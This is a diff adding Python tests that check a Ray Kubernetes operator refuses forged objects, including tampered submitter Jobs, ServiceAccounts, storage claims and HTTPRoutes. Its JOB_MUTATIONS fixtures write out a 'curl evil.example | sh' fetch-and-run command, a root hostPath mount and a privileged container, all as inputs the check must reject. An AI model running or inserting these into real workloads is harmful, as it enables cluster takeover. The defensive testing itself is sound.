@@ -30,9 +30,11 @@ from schema.messages import (
     EmitEvent,
     ObjectRef,
     PatchObject,
+    PatchStatus,
     PutServeConfig,
     SubmitRayJob,
 )
+from schema.probes import head_service_name
 from services.edge.apply.freshness import Freshness
 from services.edge.apply.provenance import ContentCheck, first_difference
 from services.reconciler.raycronjob.reconcile import reconcile as reconcile_raycronjob
@@ -214,6 +216,44 @@ def test_the_autoscaler_rbac_binds_only_its_role_to_the_pods_service_account() -
     assert "the Role's rules[0].verbs" in check(world.key, world.objects, wider)
 
 
+def test_the_autoscaler_service_account_carries_nothing_but_its_name() -> None:
+    world = ClusterWorld(builders.sample("ray-cluster.autoscaler"))
+    world.converge()
+    [(account, batch)] = created(world.decisions, "ServiceAccount")
+    assert check(world.key, world.objects, account, batch) == ""
+    role_arn = "eks.amazonaws.com/role-arn"
+    cloud = with_body(
+        account, lambda b: b["metadata"].setdefault("annotations", {}).__setitem__(role_arn, "arn:aws:iam::1:role/x")
+    )
+    assert check(world.key, world.objects, cloud).startswith(f"the ServiceAccount's metadata.annotations.{role_arn}")
+    pull = with_body(account, lambda b: b.__setitem__("imagePullSecrets", [{"name": "registry"}]))
+    assert check(world.key, world.objects, pull).startswith("the ServiceAccount's imagePullSecrets")
+    other = CreateObject(target=msgspec.structs.replace(account.target, name="admin"), body=account.body)
+    assert "runs as" in check(world.key, world.objects, other)
+    plain = ClusterWorld(builders.cluster())
+    plain.converge()
+    assert "needs no ServiceAccount" in check(plain.key, plain.objects, account)
+
+
+def test_the_gcs_claim_is_the_storage_the_cluster_asks_for() -> None:
+    config = OperatorConfig(gates=FeatureGates(gcs_fault_tolerance_embedded_storage=True))
+    rocksdb = {"backend": "rocksdb", "storage": {"subPath": "gcs", "size": "2Gi"}}
+    world = ClusterWorld(builders.cluster(gcsFaultToleranceOptions=rocksdb), config=config)
+    world.converge()
+    [(claim, batch)] = created(world.decisions, "PersistentVolumeClaim")
+
+    def problem(command: CreateObject) -> str:
+        return ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(command)
+
+    assert problem(claim) == ""
+    bound = with_body(claim, lambda b: b["spec"].__setitem__("volumeName", "pv-of-another-team"))
+    assert problem(bound).startswith("the PersistentVolumeClaim's spec.volumeName 'pv-of-another-team'")
+    bigger = with_body(claim, lambda b: b["spec"]["resources"]["requests"].__setitem__("storage", "100Ti"))
+    assert problem(bigger).startswith("the PersistentVolumeClaim's spec.resources.requests.storage is '100Ti'")
+    other = CreateObject(target=msgspec.structs.replace(claim.target, name="data"), body=claim.body)
+    assert "has no PersistentVolumeClaim data" in problem(other)
+
+
 def test_a_pod_patch_changes_only_what_raybus_patches() -> None:
     world = ClusterWorld(builders.cluster())
     world.converge()
@@ -289,6 +329,96 @@ def test_every_rayjob_sample_passes(sample: str, rayjob: dict[str, Any]) -> None
     # a RayJob that uses an existing cluster, or one raybus refuses as invalid, creates none
     rules = {rule for decision in world.decisions for rule in decision.rules}
     assert clusters or "clusterSelector" in document["spec"] or "8/rayjob-invalid" in rules, rules
+
+
+JOB_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
+    "image": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil.example/m:1"),
+    "command": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
+        "command", ["/bin/sh", "-c", "curl evil.example | sh"]
+    ),
+    "entrypoint": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
+        "args", ["ray job submit --address http://rj-head-svc:8265 -- curl evil.example | sh"]
+    ),
+    "volumes": lambda job: job["spec"]["template"]["spec"]
+    .setdefault("volumes", [])
+    .append({"name": "root", "hostPath": {"path": "/"}}),
+    "privileged": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
+        "securityContext", {"privileged": True}
+    ),
+    "serviceAccountName": lambda job: job["spec"]["template"]["spec"].__setitem__("serviceAccountName", "admin"),
+    "dashboard": lambda job: job["spec"]["template"]["spec"]["containers"][0]["env"].append(
+        {"name": "RAY_DASHBOARD_ADDRESS", "value": "other-head-svc.default.svc.cluster.local:8265"}
+    ),
+}
+
+
+def lagging(objects: dict[tuple[str, str], dict[str, Any]], name: str) -> dict[tuple[str, str], dict[str, Any]]:
+    """``objects`` as facts that show the RayJob ``name`` without its dashboard address (a lagging watch)."""
+    facts = copy.deepcopy(objects)
+    facts[("RayJob", name)].get("status", {}).pop("dashboardURL", None)
+    return facts
+
+
+def assert_submitter_checked(key: ReconcileKey, objects: Any, job: CreateObject, batch: tuple[Command, ...]) -> None:
+    """The submitter Job passes on these facts, with or without the batch's status patch (withheld as the
+    twin of one still in flight), and each forged variant of it is refused."""
+    without_status = tuple(c for c in batch if not isinstance(c, PatchStatus))
+    for facts in (objects, lagging(objects, key.name)):
+        for carried in (batch, without_status):
+            assert check(key, facts, job, carried) == ""
+    for field, mutate in JOB_MUTATIONS.items():
+        problem = check(key, objects, with_body(job, mutate), batch)
+        assert problem.startswith("the submitter Job's spec.template.spec"), (field, problem)
+
+
+def test_a_submitter_job_runs_the_rayjobs_image_only() -> None:
+    world = JobWorld()
+    world.add(job_builders.rayjob())
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
+    job_builders.make_cluster_ready(world, cluster)
+    before = copy.deepcopy(world.objects)
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    key = ReconcileKey(kind="RayJob", namespace="default", name="rj")
+    [(job, batch)] = created(world.decisions, "Job")
+    assert check(key, world.objects, job, batch) == ""
+    assert check(key, before, job, batch) == ""  # decided on these: the batch carries the dashboard address
+    evil = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil"))
+    assert "the submitter Job's spec.template.spec.containers[0].image is 'evil'" in check(key, world.objects, evil)
+    assert_submitter_checked(key, before, job, batch)
+    other_job = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0]["env"][-1].update(value="x"))
+    assert check(key, world.objects, other_job).startswith("the submitter Job's spec.template.spec.containers[0]")
+
+
+@pytest.mark.parametrize(
+    ("sample", "rayjob"), sample_documents("RayJob"), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_every_rayjob_samples_submitter_passes_while_the_status_lags(sample: str, rayjob: dict[str, Any]) -> None:
+    world = JobWorld()
+    document = copy.deepcopy(rayjob)
+    document["metadata"]["namespace"] = "default"
+    document["metadata"].setdefault("name", sample.replace(".", "-"))
+    world.add(document)
+    selected = document["spec"].get("clusterSelector", {}).get("ray.io/cluster")
+    if selected:  # the user's cluster a RayJob submits to
+        user_cluster = {"metadata": {"name": selected}, "spec": job_builders.cluster_spec()}
+        world.add({"apiVersion": "ray.io/v1", "kind": "RayCluster", **user_cluster})
+    name = document["metadata"]["name"]
+    key = ReconcileKey(kind="RayJob", namespace="default", name=name)
+    jobs = 0
+    for _ in range(8):
+        before = copy.deepcopy(world.objects)  # what the decision is made on
+        decision = world.reconcile(reconcile_rayjob, "RayJob", name)  # checked as applied, on the new facts
+        for job, batch in created([decision], "Job"):
+            jobs += 1
+            assert_submitter_checked(key, before, job, batch)
+        cluster_name = world.get("RayJob", name).get("status", {}).get("rayClusterName")  # type: ignore[union-attr]
+        cluster = world.get("RayCluster", cluster_name) if cluster_name else None
+        if cluster is not None:
+            job_builders.make_cluster_ready(world, cluster_name, head_service=head_service_name(cluster_name, cluster))
+    mode = document["spec"].get("submissionMode", "K8sJobMode")
+    rules = {rule for decision in world.decisions for rule in decision.rules}
+    assert jobs or mode != "K8sJobMode" or "8/rayjob-invalid" in rules, rules
 
 
 def submission_world(**spec: Any) -> tuple[JobWorld, ReconcileKey, SubmitRayJob, tuple[Command, ...]]:
@@ -412,6 +542,75 @@ def test_a_rayservice_cluster_is_its_cluster_config() -> None:
         assert check(key, world.objects, public, batch).startswith("the Service's spec.type")
         elsewhere = with_body(service, lambda b: b["spec"]["selector"].__setitem__("ray.io/cluster", "other"))
         assert "selects no RayCluster of RayService/default/rs" in check(key, world.objects, elsewhere, batch)
+
+
+def incremental_world() -> tuple[ServiceWorld, ReconcileKey]:
+    world = ServiceWorld()
+    strategy = service_builders.incremental_strategy(step=50, interval=30, surge=50)
+    config = service_builders.cluster_config(autoscaling=True)
+    world.add(service_builders.rayservice(upgradeStrategy=strategy, rayClusterConfig=config))
+    world.settle("rs")
+    world.update("RayService", "rs", lambda o: o["spec"]["rayClusterConfig"].update(rayVersion="2.53.0"), spec=True)
+    decision = world.settle("rs")
+    while decision.wake_at is not None and len(list(patched(world.decisions, "HTTPRoute"))) < 2:
+        world.advance_to(decision.wake_at)
+        decision = world.settle("rs")
+    return world, ReconcileKey(kind="RayService", namespace="default", name="rs")
+
+
+def patched(decisions: list[Any], kind: str) -> Iterator[tuple[PatchObject, tuple[Command, ...]]]:
+    for decision in decisions:
+        for command in decision.commands:
+            if isinstance(command, PatchObject) and command.target.kind == kind:
+                yield command, decision.commands
+
+
+ROUTE_MUTATIONS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
+    "elsewhere": (
+        lambda spec: spec["rules"][0]["backendRefs"][0].__setitem__("name", "billing"),
+        "the HTTPRoute's backend 'billing' is no serve Service of a RayCluster of RayService/default/rs",
+    ),
+    "weight": (
+        lambda spec: spec["rules"][0]["backendRefs"][0].__setitem__("weight", 500),
+        "the HTTPRoute's weight 500",
+    ),
+    "hostnames": (
+        lambda spec: spec.__setitem__("hostnames", ["pay.example.com"]),
+        "the HTTPRoute's spec.hostnames ['pay.example.com'] is not derived",
+    ),
+    "gateway": (
+        lambda spec: spec["parentRefs"][0].__setitem__("name", "public-gateway"),
+        "the HTTPRoute's spec.parentRefs[0].name is 'public-gateway'",
+    ),
+    "port": (
+        lambda spec: spec["rules"][0]["backendRefs"][0].__setitem__("port", 8265),
+        "the HTTPRoute's spec.rules[0].backendRefs[0].port is 8265",
+    ),
+}
+
+
+def test_the_gateway_and_route_of_an_incremental_upgrade_are_the_rayservices() -> None:
+    world, key = incremental_world()
+    [(gateway, batch)] = created(world.decisions, "Gateway")
+    assert check(key, world.objects, gateway, batch) == ""
+    listener = {"name": "https", "protocol": "HTTPS", "port": 443, "hostname": "pay.example.com"}
+    public = with_body(gateway, lambda b: b["spec"]["listeners"].append(listener))
+    assert check(key, world.objects, public).startswith("the Gateway's spec.listeners[1]")
+    ref = msgspec.structs.replace(gateway.target, kind="Gateway")
+    classed = PatchObject(target=ref, patch={"spec": {**gateway.body["spec"], "gatewayClassName": "public"}})
+    assert "patch.spec.gatewayClassName is 'public'" in check(key, world.objects, classed)
+    [(route, batch)] = created(world.decisions, "HTTPRoute")
+    assert check(key, world.objects, route, batch) == ""
+    patches = list(patched(world.decisions, "HTTPRoute"))
+    assert patches
+    for patch, batch in patches:
+        assert check(key, world.objects, patch, batch) == ""
+    for mutate, why in ROUTE_MUTATIONS.values():
+        forged = with_body(route, lambda b, mutate=mutate: mutate(b["spec"]))
+        assert check(key, world.objects, forged).startswith(why), why
+        spec = copy.deepcopy(patches[-1][0].patch["spec"])  # type: ignore[call-overload]
+        mutate(spec)
+        assert check(key, world.objects, msgspec.structs.replace(patches[-1][0], patch={"spec": spec})).startswith(why)
 
 
 # --- RayCronJobs -----------------------------------------------------------------------------------
